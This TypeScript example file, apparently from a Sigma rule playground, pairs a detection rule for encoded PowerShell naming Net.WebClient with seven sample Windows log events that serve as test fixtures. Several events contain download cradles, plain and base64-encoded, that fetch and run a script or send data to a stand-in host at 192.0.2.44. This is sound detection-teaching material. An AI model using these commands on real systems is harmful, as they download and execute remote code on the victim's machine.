import type { Example } from '../example';

const rule = String.raw`title: Encoded PowerShell Command That Names A Web Client
id: 01d8b6f6-8f23-4a55-84f3-5cfcd7216ee6
status: experimental
description: |
    Detects an encoded PowerShell command that names .NET's web client.
    PowerShell wants UTF-16 in base64; the same text looks different at each of three alignments.
references:
    - https://attack.mitre.org/techniques/T1059/001/
    - https://attack.mitre.org/techniques/T1027/010/
author: Sigma Playground
date: 2026-11-24
tags:
    - attack.execution
    - attack.t1059.001
    - attack.stealth
    - attack.t1027.010
logsource:
    category: process_creation
    product: windows
detection:
    selection_img:
        Image|endswith:
            - '\powershell.exe'
            - '\pwsh.exe'
    selection_encoded:
        CommandLine|wide|base64offset|contains: 'Net.WebClient'
    condition: all of selection_*
falsepositives:
    - Software distribution that passes its commands encoded
level: high
`;

const events = String.raw`{
  "Event": {
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-Sysmon"
        }
      },
      "EventID": 1,
      "EventRecordID": 48211,
      "Channel": "Microsoft-Windows-Sysmon/Operational",
      "Computer": "ws-07.lab.example"
    },
    "EventData": {
      "UtcTime": "2026-11-20 13:05:31.250",
      "ProcessId": 4338,
      "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      "OriginalFileName": "PowerShell.EXE",
      "CommandLine": "powershell -enc JAB3AGMAPQBOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAA7ACAAJAB3AGMALgBEAG8AdwBuAGwAbwBhAGQARgBpAGwAZQAoACcAaAB0AHQAcAA6AC8ALwAxADkAMgAuADAALgAyAC4ANAA0AC8AYQAuAHoAaQBwACcALAAnAGEALgB6AGkAcAAnACkA",
      "User": "LAB\\ana",
      "IntegrityLevel": "Medium",
      "ParentImage": "C:\\Windows\\explorer.exe"
    }
  }
}
{
  "Event": {
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-Security-Auditing"
        }
      },
      "EventID": 4688,
      "EventRecordID": 90417,
      "Channel": "Security",
      "Computer": "ws-07.lab.example"
    },
    "EventData": {
      "SubjectUserName": "ana",
      "SubjectDomainName": "LAB",
      "NewProcessId": "0x1c54",
      "NewProcessName": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      "ProcessId": "0xb54",
      "CommandLine": "powershell.exe -NoProfile -EncodedCommand JgAgAHsAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABTAHkAcwB0AGUAbQAuAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAKQAuAFUAcABsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADEAOQAyAC4AMAAuADIALgA0ADQALwAnACwAIAAnAGgAaQAnACkAIAB9AA==",
      "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
      "MandatoryLabel": "S-1-16-8192"
    }
  }
}
{
  "Event": {
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-Sysmon"
        }
      },
      "EventID": 1,
      "EventRecordID": 48260,
      "Channel": "Microsoft-Windows-Sysmon/Operational",
      "Computer": "ws-07.lab.example"
    },
    "EventData": {
      "UtcTime": "2026-11-20 13:05:20.250",
      "ProcessId": 4387,
      "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      "OriginalFileName": "PowerShell.EXE",
      "CommandLine": "powershell -w hidden -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADQANAAvAHAALgBwAHMAMQAnACkA",
      "User": "LAB\\ana",
      "IntegrityLevel": "Medium",
      "ParentImage": "C:\\Program Files\\LabOffice\\writer.exe"
    }
  }
}
{
  "Event": {
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-Sysmon"
        }
      },
      "EventID": 1,
      "EventRecordID": 48271,
      "Channel": "Microsoft-Windows-Sysmon/Operational",
      "Computer": "ws-07.lab.example"
    },
    "EventData": {
      "UtcTime": "2026-11-20 13:05:31.250",
      "ProcessId": 4398,
      "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      "OriginalFileName": "PowerShell.EXE",
      "CommandLine": "powershell -e SQBFAFgAIAAoAG4AZQB3AC0AbwBiAGoAZQBjAHQAIABuAGUAdAAuAHcAZQBiAGMAbABpAGUAbgB0ACkALgBkAG8AdwBuAGwAbwBhAGQAcwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADQANAAvAHAALgBwAHMAMQAnACkA",
      "User": "LAB\\ana",
      "IntegrityLevel": "Medium",
      "ParentImage": "C:\\Windows\\explorer.exe"
    }
  }
}
{
  "Event": {
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-Security-Auditing"
        }
      },
      "EventID": 4688,
      "EventRecordID": 90455,
      "Channel": "Security",
      "Computer": "ws-07.lab.example"
    },
    "EventData": {
      "SubjectUserName": "ana",
      "SubjectDomainName": "LAB",
      "NewProcessId": "0x1cec",
      "NewProcessName": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      "ProcessId": "0xb54",
      "CommandLine": "powershell -Command \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/p.ps1')\"",
      "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
      "MandatoryLabel": "S-1-16-8192"
    }
  }
}
{
  "Event": {
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-Sysmon"
        }
      },
      "EventID": 1,
      "EventRecordID": 48302,
      "Channel": "Microsoft-Windows-Sysmon/Operational",
      "Computer": "ws-07.lab.example"
    },
    "EventData": {
      "UtcTime": "2026-11-20 13:05:02.250",
      "ProcessId": 4429,
      "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      "OriginalFileName": "PowerShell.EXE",
      "CommandLine": "powershell -Command \"$b='SUVYIChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQpLkRvd25sb2FkU3RyaW5nKCdodHRwOi8vMTkyLjAuMi40NC9wLnBzMScp'\"",
      "User": "LAB\\ana",
      "IntegrityLevel": "Medium",
      "ParentImage": "C:\\Windows\\explorer.exe"
    }
  }
}
{
  "Event": {
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-Security-Auditing"
        }
      },
      "EventID": 4688,
      "EventRecordID": 90502,
      "Channel": "Security",
      "Computer": "ws-07.lab.example"
    },
    "EventData": {
      "SubjectUserName": "ana",
      "SubjectDomainName": "LAB",
      "NewProcessId": "0x1da8",
      "NewProcessName": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      "ProcessId": "0xb54",
      "CommandLine": "powershell -enc RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQAgAEMAZQByAHQAOgBcAEMAdQByAHIAZQBuAHQAVQBzAGUAcgBcAE0AeQAgAHwAIABTAGUAbABlAGMAdAAtAE8AYgBqAGUAYwB0ACAAUwB1AGIAagBlAGMAdAA=",
      "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
      "MandatoryLabel": "S-1-16-8192"
    }
  }
}
`;

export const encodedPowershell: Example = {
  title: 'Encoded PowerShell',
  teaches: 'How `wide` and `base64offset` find a word inside an encoded command',
  topic: 'modifiers',
  at: '|wide|base64offset|contains',
  expected: 'mmm----',
  rule,
  events,
};
